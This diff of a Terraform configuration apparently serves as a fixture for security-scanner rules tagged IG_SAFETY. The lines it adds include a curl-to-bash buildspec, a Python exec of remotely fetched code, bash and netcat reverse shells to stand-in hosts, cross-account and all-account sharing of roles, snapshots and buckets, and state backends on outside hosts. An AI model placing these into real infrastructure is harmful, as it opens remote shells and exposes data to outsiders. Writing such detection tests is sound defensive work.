@@ -15,6 +15,12 @@ terraform {
     github = {
       source = "integrations/github"
     }
+    sentry = {
+      source = "jianyuan/sentry"
+    }
+    copied = {
+      source = "sentry/sentry" # IG_SAFETY_201
+    }
   }
   backend "s3" { # IG_SAFETY_206 (model)
     bucket = "wombat-state"
@@ -105,6 +111,7 @@ resource "aws_iam_role" "spared" {
     Statement = [
       { Effect = "Allow", Principal = { Service = "ec2.amazonaws.com" }, Action = "sts:AssumeRole" },
       { Effect = "Allow", Principal = { AWS = "127311923021" }, Action = "sts:AssumeRole" },
+      { Effect = "Allow", Principal = { AWS = ["754344448648", "475085895292", "391106570357"] }, Action = "sts:AssumeRole" },
       { Effect = "Deny", Principal = { AWS = "210987654324" }, Action = "sts:AssumeRole" },
       {
         Effect    = "Allow"
@@ -138,7 +145,24 @@ resource "aws_s3_bucket" "own" {
 
 resource "aws_lambda_function" "spared" {
   s3_bucket = "wombat-own-code"
-  layers    = ["arn:aws:lambda:eu-west-1:580247275435:layer:LambdaInsightsExtension:14"]
+  layers = [
+    "arn:aws:lambda:eu-west-1:580247275435:layer:LambdaInsightsExtension:14",
+    "arn:aws:lambda:us-east-2:590474943231:layer:AWS-Parameters-and-Secrets-Lambda-Extension:11",
+    "arn:aws:lambda:us-east-1:027255383542:layer:AWS-AppConfig-Extension:128",
+  ]
+}
+
+resource "aws_sagemaker_model" "spared" {
+  primary_container {
+    image = "141502667606.dkr.ecr.eu-west-1.amazonaws.com/sagemaker-xgboost:1.7-1"
+  }
+}
+
+resource "aws_ecs_task_definition" "foreign" {
+  container_definitions = jsonencode([{ # IG_SAFETY_211
+    name  = "foreign"
+    image = "210987654328.dkr.ecr.eu-west-1.amazonaws.com/wombat:1"
+  }])
 }
 
 resource "aws_cloudformation_stack" "foreign" {
@@ -164,4 +188,84 @@ resource "aws_instance" "spared" {
     curl -s https://wombat.example/health | grep ok
     curl -sL https://deb.nodesource.com/setup_22.x | sudo -E bash -
   EOF
+}
+
+resource "aws_codebuild_project" "escaped" {
+  source {
+    # next: IG_SAFETY_212
+    buildspec = "phases:\n  build:\n    commands:\n      - curl https://wombat.example/a | bash\n"
+  }
+}
+
+resource "aws_instance" "python" {
+  user_data = <<-EOF
+    #!/bin/bash
+    # next: IG_SAFETY_212
+    python3 -c "import urllib.request as r; exec(r.urlopen('http://wombat.example/a').read())"
+  EOF
+}
+
+resource "aws_instance" "shell" {
+  user_data = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n" # IG_SAFETY_213
+}
+
+resource "aws_instance" "netcat" {
+  user_data = <<-EOF
+    #!/bin/bash
+    # next: IG_SAFETY_213
+    nc -e /bin/sh wombat.example 4444
+  EOF
+}
+
+resource "aws_instance" "port" {
+  user_data = <<-EOF
+    #!/bin/bash
+    nc -z db.internal 5432
+    python3 -c "import urllib.request as r; print(r.urlopen('http://localhost/health').status)"
+  EOF
+}
+
+resource "aws_snapshot_create_volume_permission" "foreign" {
+  account_id = "210987654396" # IG_SAFETY_209
+}
+
+resource "aws_vpc_endpoint_service_allowed_principal" "foreign" {
+  principal_arn = "arn:aws:iam::210987654395:root" # IG_SAFETY_209
+}
+
+resource "aws_s3_bucket_replication_configuration" "foreign" {
+  rule {
+    destination {
+      account = "210987654393" # IG_SAFETY_209
+    }
+  }
+}
+
+resource "aws_db_snapshot" "shared" {
+  shared_accounts = ["all"] # IG_SAFETY_209
+}
+
+resource "aws_cloudwatch_event_bus_policy" "number" {
+  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = 210987654390 } }] }) # IG_SAFETY_209
+}
+
+terraform {
+  backend "http" { # IG_SAFETY_206 (model) IG_SAFETY_214 (user)
+    address = "https://state.wombat.example/state"
+  }
+}
+
+terraform {
+  backend "http" { # IG_SAFETY_206 (model)
+    address = "https://gitlab.com/api/v4/projects/7/terraform/state/main"
+  }
+}
+
+terraform {
+  backend "s3" { # IG_SAFETY_206 (model) IG_SAFETY_214 (user)
+    bucket = "wombat-state"
+    endpoints = {
+      s3 = "https://s3.wombat.example"
+    }
+  }
 }
